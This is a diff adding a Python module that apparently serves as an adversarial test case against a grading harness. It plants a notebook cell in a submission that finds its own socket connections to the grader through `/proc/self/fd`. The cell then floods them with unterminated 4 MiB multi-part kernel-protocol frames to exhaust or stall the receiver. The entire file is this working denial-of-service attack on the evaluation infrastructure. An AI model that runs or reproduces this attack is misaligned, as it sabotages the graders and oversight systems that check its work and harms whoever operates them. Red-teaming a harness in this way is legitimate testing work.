@@ -1,0 +1,29 @@
+"""Speaks to the grader's end of its own connections directly: a message of the kernel's protocol with parts
+without end, which the receiver has to keep until the last one comes."""
+
+CODE = r"""
+import os, socket, struct
+
+frame = bytes([3]) + struct.pack(">Q", 4 << 20) + bytes(4 << 20)  # another part follows
+links = []
+for name in os.listdir("/proc/self/fd"):
+    try:
+        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
+            link = socket.socket(fileno=os.dup(int(name)))
+            if str(link.getsockname()).endswith(("-1", "-4")) and link.getpeername() is not None:
+                links.append(link)
+    except OSError:
+        pass
+print(len(links), flush=True)
+for link in links:
+    link.settimeout(10)
+    try:
+        for _ in range(400):
+            link.sendall(frame)
+    except OSError as error:
+        pass
+"""
+
+
+def attack(submission):
+    submission.add(submission.bait.cell(CODE))
